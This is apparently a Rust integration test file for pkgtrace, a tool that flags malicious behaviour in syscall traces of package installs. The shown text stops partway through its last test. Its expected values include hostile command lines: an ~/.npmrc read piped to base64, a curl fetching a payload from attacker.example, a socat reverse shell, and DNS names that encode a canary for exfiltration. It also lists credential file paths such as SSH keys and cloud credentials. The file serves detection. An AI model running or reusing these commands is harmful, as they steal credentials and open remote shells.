//! End-to-end tests of the `pkgtrace` binary: exit codes, the JSON report's
//! shape, what the corpus logs must (and must not) produce, text output,
//! phases, the parse → analyze round trip, compressed inputs, the `rules`
//! subcommands and a closed stdout.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

mod common;
use common::{code, copy_dir, corpus_log, repo as root, stderr, stdout, BIN, CORPUS_OPTS};

fn corpus(rel: &str) -> String {
    corpus_log(rel).to_str().unwrap().to_string()
}

fn run(args: &[&str]) -> Output {
    Command::new(BIN).args(args).env_remove("NO_COLOR").env_remove("PKGTRACE_LOG").output().expect("run pkgtrace")
}

/// `analyze --format json` with the corpus options plus `extra`; returns (report, exit code).
fn analyze_json(extra: &[&str], paths: &[&str]) -> (Value, i32) {
    let mut args = vec!["analyze", "--format", "json"];
    args.extend(CORPUS_OPTS);
    args.extend(extra);
    args.extend(paths);
    let o = run(&args);
    let c = code(&o);
    assert!(c == 0 || c == 1, "exit {c} for {paths:?}; stderr: {}", stderr(&o));
    let v: Value =
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("invalid JSON for {paths:?}: {e}\n{}", stdout(&o)));
    (v, c)
}

fn findings(report: &Value) -> Vec<&Value> {
    report["phases"].as_array().unwrap().iter().flat_map(|p| p["findings"].as_array().unwrap()).collect()
}

fn is_active(f: &Value) -> bool {
    f.get("suppressed_by").is_none_or(Value::is_null)
}

/// Active findings of `rule` whose subject equals `subject`.
fn active<'a>(report: &'a Value, rule: &str, subject: &str) -> Vec<&'a Value> {
    findings(report).into_iter().filter(|f| f["rule"] == rule && f["subject"] == subject && is_active(f)).collect()
}

fn assert_active(report: &Value, rule: &str, subject: &str) {
    assert!(
        !active(report, rule, subject).is_empty(),
        "expected an active {rule} finding for {subject:?}; active findings: {:#?}",
        summary(report)
    );
}

fn assert_not_active(report: &Value, rule: &str, subject: &str) {
    assert!(
        active(report, rule, subject).is_empty(),
        "near miss: {rule} must not be active for {subject:?}; got {:#?}",
        active(report, rule, subject)
    );
}

/// `severity rule subject` of every active finding, for failure messages.
fn summary(report: &Value) -> Vec<String> {
    findings(report)
        .into_iter()
        .filter(|f| is_active(f))
        .map(|f| format!("{} {} {}", f["severity"], f["rule"], f["subject"]))
        .collect()
}

fn active_rule_subjects(report: &Value, rule: &str) -> Vec<String> {
    findings(report)
        .into_iter()
        .filter(|f| f["rule"] == rule && is_active(f))
        .map(|f| f["subject"].as_str().unwrap().to_string())
        .collect()
}

fn behaviour(report: &Value, key: &str) -> Vec<Value> {
    report["phases"].as_array().unwrap().iter().flat_map(|p| p["behaviour"][key].as_array().unwrap().clone()).collect()
}

fn commands(report: &Value) -> Vec<Vec<String>> {
    behaviour(report, "commands")
        .iter()
        .map(|c| c["argv"].as_array().unwrap().iter().map(|a| a.as_str().unwrap().to_string()).collect())
        .collect()
}

fn dns_names(report: &Value) -> Vec<String> {
    behaviour(report, "dns").iter().map(|d| d["name"].as_str().unwrap().to_string()).collect()
}

// ---------------------------------------------------------------- exit codes

#[test]
fn exit_0_on_a_log_without_findings() {
    let o = run(&[&["analyze"][..], &CORPUS_OPTS, &[&corpus("formats/signals.log")]].concat());
    assert_eq!(code(&o), 0, "stderr: {}", stderr(&o));
    assert!(stdout(&o).contains("0 findings"), "{}", stdout(&o));
}

#[test]
fn exit_follows_fail_on_threshold() {
    // config-probe.log has high findings (and an info one), nothing critical.
    let log = corpus("behaviour/config-probe.log");
    let (report, c) = analyze_json(&[], &[&log]);
    assert_eq!(c, 1, "default --fail-on high with high findings");
    let worst =
        findings(&report).into_iter().filter(|f| is_active(f)).map(|f| f["severity"].clone()).collect::<Vec<_>>();
    assert!(worst.contains(&Value::from("high")) && !worst.contains(&Value::from("critical")), "{worst:?}");
    let (_, c) = analyze_json(&["--fail-on", "critical"], &[&log]);
    assert_eq!(c, 0, "--fail-on critical with only high findings");
    let (_, c) = analyze_json(&["--fail-on", "HIGH"], &[&log]);
    assert_eq!(c, 1, "--fail-on is case-insensitive");

    // threads.log: only a low finding.
    let log = corpus("formats/threads.log");
    assert_eq!(analyze_json(&[], &[&log]).1, 0);
    assert_eq!(analyze_json(&["--fail-on", "medium"], &[&log]).1, 0);
    assert_eq!(analyze_json(&["--fail-on", "low"], &[&log]).1, 1);
    assert_eq!(analyze_json(&["--fail-on", "info"], &[&log]).1, 1);
}

#[test]
fn suppressed_findings_do_not_fail_the_run() {
    // The left-pad control run with --ecosystem npm: npm's own activity is
    // all suppressed (or info), so the verdict is 0 although findings exist.
    let (report, c) = analyze_json(&["--ecosystem", "npm"], &[&corpus("npm/install-left-pad.log.zst")]);
    let suppressed = findings(&report).into_iter().filter(|f| !is_active(f)).count();
    assert!(suppressed > 0, "the control log should have suppressed findings: {report:#}");
    assert_eq!(c, 0, "only suppressed/info findings: {:?}", summary(&report));
}

#[test]
fn exit_2_for_a_missing_file() {
    let o = run(&["analyze", "/nonexistent/pkgtrace-test.log"]);
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("/nonexistent/pkgtrace-test.log"), "stderr names the file: {}", stderr(&o));
    // One missing file among good ones still exits 2.
    let o = run(&["analyze", "--format", "json", &corpus("formats/signals.log"), "/nonexistent/x.log"]);
    assert_eq!(code(&o), 2, "stderr: {}", stderr(&o));
    let o = run(&["parse", "/nonexistent/pkgtrace-test.log"]);
    assert_eq!(code(&o), 2);
}

#[test]
fn exit_2_for_a_bad_flag() {
    let o = run(&["analyze", "--no-such-flag", &corpus("formats/signals.log")]);
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("--no-such-flag"), "{}", stderr(&o));
    let o = run(&["no-such-command"]);
    assert_eq!(code(&o), 2);
    let o = run(&["analyze"]);
    assert_eq!(code(&o), 2, "a path is required");
    let o = run(&["analyze", "--format", "xml", &corpus("formats/signals.log")]);
    assert_eq!(code(&o), 2);
}

#[test]
fn exit_2_for_a_bad_fail_on_value() {
    let o = run(&["analyze", "--fail-on", "extreme", &corpus("formats/signals.log")]);
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("extreme"), "{}", stderr(&o));
    assert!(o.stdout.is_empty(), "no report on a usage error");
}

fn broken_rules_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("credentials")).unwrap();
    std::fs::write(
        dir.path().join("credentials/broken-rule.toml"),
        "id = \"broken-rule\"\nseverity = \"catastrophic\"\nsummary = \"x\"\nevent = \"open\"\n[match\npath = [\n",
    )
    .unwrap();
    dir
}

#[test]
fn exit_2_for_an_invalid_rules_dir() {
    let dir = broken_rules_dir();
    let d = dir.path().to_str().unwrap();
    let o = run(&["analyze", "--rules", d, &corpus("formats/signals.log")]);
    assert_eq!(code(&o), 2, "stdout: {}", stdout(&o));
    assert!(stderr(&o).contains("broken-rule"), "the error names the file: {}", stderr(&o));
    assert!(!stderr(&o).contains("panicked"));
    let o = run(&["rules", "list", "--rules", d]);
    assert_eq!(code(&o), 2);
    let o = run(&["rules", "test", "--rules", d]);
    assert_eq!(code(&o), 2);
    // A directory that does not exist.
    let o = run(&["analyze", "--rules", "/nonexistent/rules", &corpus("formats/signals.log")]);
    assert_eq!(code(&o), 2);
}

#[test]
fn help_and_version_exit_0() {
    for args in [&["--help"][..], &["analyze", "--help"], &["rules", "--help"], &["--version"]] {
        let o = run(args);
        assert_eq!(code(&o), 0, "{args:?}");
        assert!(!o.stdout.is_empty(), "{args:?} prints to stdout");
    }
    assert!(stdout(&run(&["analyze", "--help"])).contains("--fail-on"));
}

// ---------------------------------------------------------------- JSON shape

#[test]
fn json_report_shape() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/exec-tools.log")]);
    assert_eq!(r["schema_version"], 1);
    let phases = r["phases"].as_array().unwrap();
    assert_eq!(phases.len(), 1);
    let p = &phases[0];
    assert_eq!(p["name"], "install", "default phase");
    for key in ["files", "commands", "connections", "dns"] {
        assert!(p["behaviour"][key].is_array(), "behaviour.{key}");
        assert!(!p["behaviour"][key].as_array().unwrap().is_empty(), "exec-tools has some {key}");
    }
    let fs = p["findings"].as_array().unwrap();
    assert!(!fs.is_empty());
    let sev_rank = |s: &str| ["info", "low", "medium", "high", "critical"].iter().position(|x| *x == s).unwrap();
    let mut last = usize::MAX;
    for f in fs {
        assert!(f["rule"].is_string() && f["message"].is_string() && f["subject"].is_string(), "{f}");
        let sev = f["severity"].as_str().unwrap();
        let rank = sev_rank(sev);
        assert!(rank <= last, "findings are sorted most severe first");
        last = rank;
        assert!(f["message"].as_str().unwrap().contains(f["subject"].as_str().unwrap()));
        assert!(f["pid"].as_i64().unwrap() > 0, "{f}");
        assert!(!f["process"].as_str().unwrap().is_empty());
        let ev = &f["evidence"];
        let at = ev["at"].as_str().unwrap();
        let (file, line) = at.rsplit_once(':').unwrap();
        assert!(file.ends_with("exec-tools.log"), "{at}");
        assert!(line.parse::<u64>().unwrap() >= 1, "{at}");
        assert!(ev["syscall"].is_string());
        assert!(f["count"].as_u64().unwrap() >= 1);
    }
    let st = &r["stats"];
    let lines = std::fs::read_to_string(corpus("behaviour/exec-tools.log")).unwrap().lines().count() as u64;
    assert_eq!(st["lines"].as_u64().unwrap(), lines);
    assert!(st["events"].as_u64().unwrap() > 0 && st["events"].as_u64().unwrap() <= lines);
    assert_eq!(st["unparsed"], 0);
    assert!(st["processes"].as_u64().unwrap() > 1);
    // Every command has argv, exe, pid and a chain.
    for c in p["behaviour"]["commands"].as_array().unwrap() {
        assert!(!c["argv"].as_array().unwrap().is_empty());
        assert!(c["exe"].as_str().unwrap().starts_with('/'), "{c}");
        assert!(c["chain"].is_string() && c["pid"].is_i64());
    }
}

#[test]
fn evidence_line_points_at_the_syscall() {
    let log = corpus("behaviour/creds.log");
    let (r, _) = analyze_json(&[], &[&log]);
    let text = std::fs::read_to_string(&log).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let f = &active(&r, "read-ssh-private-key", "/home/pkgtrace/.ssh/id_rsa")[0];
    let at = f["evidence"]["at"].as_str().unwrap();
    let n: usize = at.rsplit_once(':').unwrap().1.parse().unwrap();
    let line = lines[n - 1];
    assert!(line.contains("/home/pkgtrace/.ssh/id_rsa") && line.contains(f["evidence"]["syscall"].as_str().unwrap()));
}

// ---------------------------------------------------------------- npm logs

#[test]
fn npm_install_lists_every_command_and_dns_name() {
    let (r, c) = analyze_json(&[], &[&corpus("npm/install-local-tgz.log.zst")]);
    assert_eq!(c, 1);
    let cmds = commands(&r);
    for want in [
        &["sh", "-c", "node postinstall.js"][..],
        &["node", "postinstall.js"],
        &["/bin/sh", "-c", "cat ~/.npmrc | base64 > /tmp/.npmrc.b64 && uname -a"],
        &["cat", "/home/pkgtrace/.npmrc"],
        &["base64"],
        &["uname", "-a"],
    ] {
        assert!(cmds.iter().any(|c| c == want), "command {want:?} missing from {cmds:#?}");
    }
    let chain = behaviour(&r, "commands")
        .into_iter()
        .find(|c| c["argv"] == serde_json::json!(["cat", "/home/pkgtrace/.npmrc"]))
        .unwrap()["chain"]
        .clone();
    assert_eq!(chain, "npm → sh → node postinstall.js → sh → cat");
    let names = dns_names(&r);
    for want in [
        "x7f3a9.attacker.example",
        "43414e4152592d6e706d2d346631633261396537643362.x7f3a9.attacker.example",
        "registry.npmjs.org",
    ] {
        assert!(names.iter().any(|n| n == want), "DNS name {want} missing from {names:?}");
    }
}

#[test]
fn npm_install_flags_package_code_not_the_package_manager() {
    let (r, _) = analyze_json(&["--ecosystem", "npm"], &[&corpus("npm/install-local-tgz.log.zst")]);
    // Package code read ~/.npmrc.
    let f = active(&r, "read-registry-token", "/home/pkgtrace/.npmrc");
    assert_eq!(f.len(), 1, "{:#?}", summary(&r));
    assert_eq!(f[0]["severity"], "high");
    assert!(f[0]["process"].as_str().unwrap().contains("node postinstall.js"), "{}", f[0]["process"]);
    assert!(f[0]["count"].as_u64().unwrap() >= 2, "node postinstall.js and cat both read it: {}", f[0]);
    assert_active(&r, "inline-code-exec", "/bin/sh -c 'cat ~/.npmrc | base64 > /tmp/.npmrc.b64 && uname -a'");
    assert_active(&r, "dns-lookup", "x7f3a9.attacker.example");
    assert_eq!(active(&r, "dns-lookup", "x7f3a9.attacker.example")[0]["severity"], "medium", "install phase");
    assert_active(&r, "dns-encoded-label", "43414e4152592d6e706d2d346631633261396537643362.x7f3a9.attacker.example");
    // Near misses.
    assert_not_active(&r, "inline-code-exec", "sh -c 'node postinstall.js'");
    // npm extracted postinstall.js into the project during this run; running
    // the package's own script is the install, not a dropped payload.
    assert_not_active(&r, "exec-file-created-in-run", "node postinstall.js");
    assert!(active_rule_subjects(&r, "exec-decode-payload").is_empty(), "base64 without -d");
    assert_not_active(&r, "dns-encoded-label", "registry.npmjs.org");
    // Everything the package manager itself did is suppressed or info.
    for f in findings(&r) {
        if f["process"] == "npm" {
            assert!(!is_active(f) || f["severity"] == "info", "npm's own activity reported: {f:#}");
        }
    }
    // npm did read ~/.npmrc itself: the file record is there.
    assert!(behaviour(&r, "files").iter().any(|f| f["path"] == "/usr/etc/npmrc"));
}

#[test]
fn npm_own_reads_are_not_findings_without_ecosystem() {
    let (r, _) = analyze_json(&[], &[&corpus("npm/install-local-tgz.log.zst")]);
    for f in findings(&r) {
        if f["process"] == "npm" && f["rule"].as_str().unwrap().starts_with("read-") {
            assert!(!is_active(f) || f["severity"] == "info", "npm's own read reported: {f:#}");
        }
    }
}

#[test]
fn npm_registry_connect_is_not_a_finding_without_ecosystem() {
    for log in ["npm/install-local-tgz.log.zst", "npm/install-left-pad.log.zst"] {
        let (r, _) = analyze_json(&[], &[&corpus(log)]);
        assert_not_active(&r, "connect-non-registry-host", "registry.npmjs.org:443");
    }
    let (_, c) = analyze_json(&[], &[&corpus("npm/install-left-pad.log.zst")]);
    assert_eq!(c, 0, "the left-pad control run has no package-code findings");
}

#[test]
fn npm_canary_in_dns_name() {
    let (r, _) = analyze_json(
        &["--ecosystem", "npm", "--canary", "CANARY-npm-4f1c2a9e7d3b"],
        &[&corpus("npm/install-local-tgz.log.zst")],
    );
    // Without a decoder the hex name holds no verbatim canary, but the
    // run must not flag the package manager's own traffic either.
    for f in findings(&r) {
        if f["rule"] == "exfil-canary-value" && is_active(f) {
            assert!(!f["process"].as_str().unwrap().ends_with("npm"), "{f}");
        }
    }
}

// ---------------------------------------------------------------- behaviour logs

#[test]
fn behaviour_creds() {
    let (r, c) = analyze_json(&[], &[&corpus("behaviour/creds.log")]);
    assert_eq!(c, 1);
    let h = "/home/pkgtrace";
    for p in [".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/ssh_host_rsa_key"] {
        assert_active(&r, "read-ssh-private-key", &format!("{h}/{p}"));
    }
    for p in [".npmrc", ".pypirc", ".yarnrc.yml", ".config/pip/pip.conf", ".cargo/credentials.toml"] {
        assert_active(&r, "read-registry-token", &format!("{h}/{p}"));
    }
    for p in [".aws/credentials", ".aws/config", ".kube/config"] {
        assert_active(&r, "read-cloud-credentials", &format!("{h}/{p}"));
    }
    for p in [".netrc", ".docker/config.json", ".git-credentials", ".config/gh/hosts.yml"] {
        assert_active(&r, "read-devtool-credentials", &format!("{h}/{p}"));
    }
    assert_active(&r, "read-browser-credential-store", &format!("{h}/.mozilla/firefox/x1y2z3.default-release/key4.db"));
    assert_active(&r, "read-crypto-wallet", &format!("{h}/.config/solana/id.json"));
    for p in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers"] {
        assert_active(&r, "read-system-secrets", p);
    }
    assert_active(&r, "read-dotenv-outside-project", &format!("{h}/other-app/.env"));
    assert_active(&r, "read-dotenv-outside-project", &format!("{h}/.env"));
    let f = &active(&r, "read-ssh-private-key", &format!("{h}/.ssh/id_rsa"))[0];
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["evidence"]["result"], "ok");
    assert_eq!(active(&r, "read-ssh-private-key", &format!("{h}/.ssh/id_ed25519"))[0]["evidence"]["result"], "ENOENT");
    // Near misses.
    assert_not_active(&r, "read-ssh-private-key", &format!("{h}/.ssh/known_hosts"));
    let kh = active(&r, "read-ssh-directory-file", &format!("{h}/.ssh/known_hosts"));
    assert_eq!(kh.len(), 1, "known_hosts is only 'other ~/.ssh/*'");
    assert_eq!(kh[0]["severity"], "low");
    assert_not_active(&r, "read-registry-token", &format!("{h}/project/.npmrc"));
    assert_not_active(&r, "read-dotenv-outside-project", &format!("{h}/project/.env"));
    assert_not_active(&r, "read-system-secrets", "/etc/passwd");
    for f in findings(&r) {
        let s = f["subject"].as_str().unwrap();
        if is_active(f) && f["severity"] != "info" {
            assert!(!s.ends_with("/.bashrc") && !s.contains("pkgtrace-demo/settings.json"), "near miss fired: {f}");
        }
    }
}

#[test]
fn behaviour_creds_directory_opens() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/creds.log")]);
    assert_active(&r, "read-browser-credential-store", "/home/pkgtrace/.mozilla/firefox");
    assert_active(&r, "read-crypto-wallet", "/home/pkgtrace/.ethereum/keystore");
}

#[test]
fn behaviour_environ() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/environ.log")]);
    let own = active(&r, "read-own-environ", "/proc/self/environ");
    assert_eq!(own.len(), 1);
    assert_eq!(own[0]["count"], 2, "/proc/<own pid>/environ normalises to /proc/self/environ");
    assert_active(&r, "read-other-process-environ", "/proc/1/environ");
    let others = active_rule_subjects(&r, "read-other-process-environ");
    assert_eq!(others.len(), 2, "/proc/1 and the child: {others:?}");
    for f in findings(&r) {
        let s = f["subject"].as_str().unwrap();
        assert!(!s.ends_with("/stat") && !s.ends_with("/cmdline"), "near miss fired: {f}");
    }
}

#[test]
fn behaviour_config_probe() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/config-probe.log")]);
    for p in [
        "/home/builder/build/out/openssl.cnf",
        "/home/builder/build/out/lib/libcrypto-ext.so",
        "/tmp/certs/ca-bundle.crt",
        "/tmp/libhook.so",
    ] {
        assert_active(&r, "config-from-user-writable-path", p);
    }
    let subjects = active_rule_subjects(&r, "config-from-user-writable-path");
    for near in ["/etc/ssl/openssl.cnf", "/usr/lib/ssl/openssl.cnf", "/home/pkgtrace/project/config/openssl.cnf"] {
        assert!(!subjects.iter().any(|s| s == near), "near miss {near} fired");
    }
    for f in findings(&r) {
        if f["subject"] == "/etc/ssl/openssl.cnf" {
            assert_eq!(f["severity"], "info", "{f}");
        }
    }
}

#[test]
/// A cert bundle in the traced user's own HOME is a near miss by design:
/// only that user can plant it there, unlike /tmp or another user's build
/// path (the CVE-2022-32222 class the rule is about).
fn behaviour_config_probe_cert_in_home() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/config-probe.log")]);
    assert_not_active(&r, "config-from-user-writable-path", "/home/pkgtrace/.config/ssl/cert.pem");
    assert_active(&r, "config-from-user-writable-path", "/tmp/certs/ca-bundle.crt");
}

const HEX_NAME: &str = "43414e4152592d6e706d2d346631633261396537643362.x7f3a9.attacker.example";

#[test]
fn behaviour_dns_glibc_variants() {
    for log in ["behaviour/dns-glibc.log", "behaviour/dns-glibc-single-request.log", "behaviour/dns-glibc-tcp.log"] {
        let (r, _) = analyze_json(&["--ecosystem", "npm"], &[&corpus(log)]);
        let names = dns_names(&r);
        assert_eq!(
            names.iter().map(|n| n.to_ascii_lowercase()).collect::<std::collections::BTreeSet<_>>().len(),
            5,
            "{log}: five names: {names:?}"
        );
        assert_active(&r, "dns-encoded-label", HEX_NAME);
        let enc = active_rule_subjects(&r, "dns-encoded-label");
        assert!(
            enc.iter().any(|s| s.eq_ignore_ascii_case("INAU4QKSLEWW44DNFU2GMMLDGJQTSZJXMQZWE.x7f3a9.attacker.example")),
            "{log}: base32 name: {enc:?}"
        );
        assert!(!enc.iter().any(|s| s == "registry.npmjs.org"), "{log}");
        assert!(
            !enc.iter().any(|s| s == "this-is-a-rather-long-but-ordinary-hostname.example.com"),
            "{log}: ordinary long label must not look encoded"
        );
        let lookups = active(&r, "dns-lookup", "this-is-a-rather-long-but-ordinary-hostname.example.com");
        assert_eq!(lookups.len(), 1, "{log}");
        assert_eq!(lookups[0]["severity"], "medium", "{log}: dns-lookup is raised in install");
        // The resolver's UDP connect is not a connection to a host.
        assert_not_active(&r, "connect-non-registry-host", "127.0.0.1:53");
    }
}

#[test]
fn behaviour_dns_canary_in_name() {
    for log in ["behaviour/dns-glibc.log", "behaviour/dns-glibc-tcp.log"] {
        let (r, _) = analyze_json(&["--canary", "CANARY-npm-4f1c2a9e7d3b"], &[&corpus(log)]);
        let subjects = active_rule_subjects(&r, "exfil-canary-value");
        assert!(
            subjects.iter().any(|s| s.eq_ignore_ascii_case("CANARY-npm-4f1c2a9e7d3b.x7f3a9.attacker.example")),
            "{log}: {subjects:?}"
        );
    }
}

#[test]
fn behaviour_dns_node() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/dns-node.log")]);
    for n in ["threadpool.attacker.example", "cares.attacker.example", "cmd.x7f3a9.attacker.example"] {
        assert_active(&r, "dns-lookup", n);
    }
    assert!(behaviour(&r, "dns").iter().any(|d| d["name"] == "cmd.x7f3a9.attacker.example" && d["type"] == "TXT"));
}

#[test]
fn behaviour_net_connect() {
    let canaries = ["--canary", "CANARY-npm-4f1c2a9e7d3b", "--canary", "CANARY-aws-9b8c7d6e5f4a"];
    let (r, _) =
        analyze_json(&[&["--ecosystem", "npm"][..], &canaries].concat(), &[&corpus("behaviour/net-connect.log")]);
    assert_active(&r, "connect-cloud-metadata", "169.254.169.254:80");
    assert_active(&r, "connect-cloud-metadata", "[fd00:ec2::254]:80");
    for h in ["webhook.site", "discord.com", "api.telegram.org"] {
        assert!(
            active_rule_subjects(&r, "connect-exfil-endpoint").iter().any(|s| s.starts_with(h)),
            "exfil endpoint {h}: {:?}",
            summary(&r)
        );
    }
    assert_active(&r, "connect-exfil-endpoint", "api.telegram.org:443");
    assert_active(&r, "connect-mining-pool", "pool.minexmr.com:3333");
    assert_active(&r, "send-stratum-protocol", "pool.minexmr.com:3333");
    let evil = active(&r, "connect-non-registry-host", "evil-cdn.attacker.example:8443");
    assert_eq!(evil.len(), 1);
    assert_eq!(evil[0]["severity"], "high", "raised in install");
    assert_active(&r, "exfil-canary-value", "webhook.site:80");
    assert_active(&r, "exfil-canary-value", "127.0.0.1:9999");
    assert_active(&r, "listen-non-loopback", "0.0.0.0:8080");
    assert_active(&r, "listen-non-loopback", "[::]:8082");
    // Near misses.
    assert_not_active(&r, "connect-non-registry-host", "registry.npmjs.org:443");
    assert_not_active(&r, "listen-non-loopback", "127.0.0.1:8081");
    assert_not_active(&r, "exfil-canary-value", "127.0.0.1:8443");
    assert_eq!(
        active_rule_subjects(&r, "exfil-canary-value").len(),
        2,
        "only the two canary payloads: {:?}",
        active_rule_subjects(&r, "exfil-canary-value")
    );
    // Host names come from the DNS sink's answers.
    let conns = behaviour(&r, "connections");
    let c = conns.iter().find(|c| c["host"] == "pool.minexmr.com").expect("connection with host");
    assert!(c["address"].as_str().unwrap().starts_with("127.53."), "{c}");
    assert_eq!(c["port"], 3333);
    // Without --canary, no canary finding at all.
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/net-connect.log")]);
    assert!(active_rule_subjects(&r, "exfil-canary-value").is_empty());
}

#[test]
fn behaviour_exec_tools() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/exec-tools.log")]);
    assert_active(&r, "downloader-writes-to-temp", "/tmp/payload.sh");
    assert_active(&r, "exec-downloader", "curl -s http://x7f3a9.attacker.example/payload.sh");
    let nc = active(&r, "exec-network-tool", "nc -z 127.0.0.1 9001");
    assert_eq!(nc.len(), 1);
    assert_eq!(nc[0]["count"], 4, "one failed execve per PATH entry");
    assert_eq!(nc[0]["evidence"]["result"], "ENOENT");
    assert_active(&r, "exec-network-tool", "dig +short TXT cmd.attacker.example");
    assert_active(&r, "exec-network-tool", "socat TCP:127.0.0.1:9001 EXEC:/bin/sh");
    assert_active(&r, "dns-lookup", "dl.attacker.example");
    assert_active(&r, "dns-lookup", "x7f3a9.attacker.example");
    // Near misses.
    for f in findings(&r) {
        let s = f["subject"].as_str().unwrap();
        if is_active(f) && f["severity"] != "info" {
            assert!(!s.contains("see curl and wget docs"), "{f}");
            assert!(!s.starts_with("uname") && !s.starts_with("ls "), "{f}");
        }
    }
    // The failed `nc` PATH search by dash is probes only: one nc finding,
    // from env, not from sh.
    assert!(nc[0]["process"].as_str().unwrap().ends_with("env"), "{}", nc[0]["process"]);
}

#[test]
fn behaviour_exec_tools_script_created_in_run() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/exec-tools.log")]);
    let subjects = active_rule_subjects(&r, "exec-file-created-in-run");
    assert!(subjects.iter().any(|s| s.contains("/tmp/payload.sh")), "{subjects:?}");
}

#[test]
fn behaviour_inline_code() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/inline-code.log")]);
    let inline = active_rule_subjects(&r, "inline-code-exec");
    for prefix in ["sh -c 'echo inline-sh'", "bash -c ", "python3 -c ", "node -e ", "perl -e "] {
        assert!(inline.iter().any(|s| s.starts_with(prefix)), "{prefix}: {inline:?}");
    }
    assert_active(&r, "exec-decode-payload", "base64 -d");
    assert_active(&r, "exec-decode-payload", "openssl enc -d -base64");
    // Near misses.
    let all: Vec<String> = findings(&r)
        .into_iter()
        .filter(|f| is_active(f) && f["severity"] != "info")
        .map(|f| f["subject"].as_str().unwrap().to_string())
        .collect();
    for near in ["inline_code.sh", "hello.sh", "hello.py", "hello.js", "openssl version"] {
        assert!(!all.iter().any(|s| s.contains(near)), "near miss {near}: {all:?}");
    }
    assert!(!all.iter().any(|s| s == "base64"), "base64 (encode) is not a finding");
}

#[test]
fn behaviour_revshell() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/revshell.log")]);
    let dups = active_rule_subjects(&r, "dup-socket-to-stdio");
    assert_eq!(dups.len(), 3, "sockets onto 0, 1 and 2 only (not the child's file/pipe redirections): {dups:?}");
    for f in findings(&r) {
        if f["rule"] == "dup-socket-to-stdio" {
            assert_eq!(f["severity"], "critical");
            let at = f["evidence"]["at"].as_str().unwrap();
            let n: usize = at.rsplit_once(':').unwrap().1.parse().unwrap();
            let text = std::fs::read_to_string(corpus("behaviour/revshell.log")).unwrap();
            assert!(text.lines().nth(n - 1).unwrap().contains("TCP:[127.0.0.1"), "evidence {at} is a socket dup");
        }
    }
}

#[test]
fn behaviour_dropper() {
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/dropper.log")]);
    assert_active(&r, "chmod-exec-created-file", "/tmp/.x-update");
    assert_active(&r, "chmod-exec-created-file", "/dev/shm/sd");
    assert_active(&r, "exec-file-created-in-run", "/tmp/.x-update");
    assert_active(&r, "exec-from-temp-or-memfd", "/dev/shm/sd");
    assert_active(&r, "chmod-setuid", "/tmp/suid-helper");
    assert!(!active_rule_subjects(&r, "exec-from-temp-or-memfd").iter().all(|s| s.starts_with('/')), "memfd exec");
    // Near misses.
    let all: Vec<String> = findings(&r)
        .into_iter()
        .filter(|f| is_active(f) && f["severity"] != "info")
        .map(|f| f["subject"].as_str().unwrap().to_string())
        .collect();
    for near in ["/tmp/notes.txt", "prebuilt-tool.sh", "/usr/bin/true"] {
        assert!(!all.iter().any(|s| s.contains(near)), "near miss {near}: {all:?}");
    }
}

// ---------------------------------------------------------------- text output

fn severity_of_line(l: &str) -> Option<usize> {
    ["INFO", "LOW", "MEDIUM", "HIGH", "CRITICAL"].iter().position(|s| l.split_whitespace().next() == Some(*s))
}

#[test]
fn text_groups_by_severity_and_shows_the_chain() {
    let o = run(&[&["analyze"][..], &CORPUS_OPTS, &[&corpus("behaviour/exec-tools.log")]].concat());
    assert_eq!(code(&o), 1);
    let out = stdout(&o);
    assert!(!out.contains('\x1b'), "no ANSI escapes when stdout is not a terminal");
    let ranks: Vec<usize> = out.lines().filter_map(severity_of_line).collect();
    assert!(ranks.contains(&4) && ranks.contains(&3) && ranks.contains(&2), "critical, high, medium present: {out}");
    assert!(ranks.windows(2).all(|w| w[0] >= w[1]), "CRITICAL before HIGH before MEDIUM: {ranks:?}");
    assert!(out.contains("by sh → wget"), "process chain with →: {out}");
    assert!(out.contains("exec-tools.log:"), "evidence location");
    let o = run(&[&["analyze", "--color", "never"][..], &CORPUS_OPTS, &[&corpus("behaviour/creds.log")]].concat());
    let out = stdout(&o);
    let ranks: Vec<usize> = out.lines().filter_map(severity_of_line).collect();
    assert!(ranks.windows(2).all(|w| w[0] >= w[1]), "{ranks:?}");
    let (r, _) = analyze_json(&[], &[&corpus("behaviour/creds.log")]);
    let critical = findings(&r).into_iter().filter(|f| is_active(f) && f["severity"] == "critical").count();
    assert!(critical > 0);
    assert_eq!(ranks.iter().filter(|r| **r == 4).count(), critical, "one CRITICAL line per critical finding: {out}");
}

#[test]
fn text_color_always_has_escapes() {
    let log = corpus("behaviour/exec-tools.log");
    let o = run(&[&["analyze", "--color", "always"][..], &CORPUS_OPTS, &[&log]].concat());
    let out = stdout(&o);
    assert!(out.contains("\x1b["), "escapes with --color always");
    assert!(out.contains("\x1b[0m"), "escapes are reset");
    // NO_COLOR does not override an explicit --color always, and auto off a tty is plain.
    let o = Command::new(BIN)
        .args([&["analyze", "--color", "auto"][..], &CORPUS_OPTS, &[&log]].concat())
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    assert!(!stdout(&o).contains('\x1b'));
    // The JSON format never has escapes.
    let o = run(&[&["analyze", "--format", "json", "--color", "always"][..], &CORPUS_OPTS, &[&log]].concat());
    serde_json::from_slice::<Value>(&o.stdout).expect("json");
    assert!(!stdout(&o).contains('\x1b'));
}

// ---------------------------------------------------------------- phases

#[test]
fn phase_name_from_argument() {
    let log = corpus("behaviour/dns-node.log");
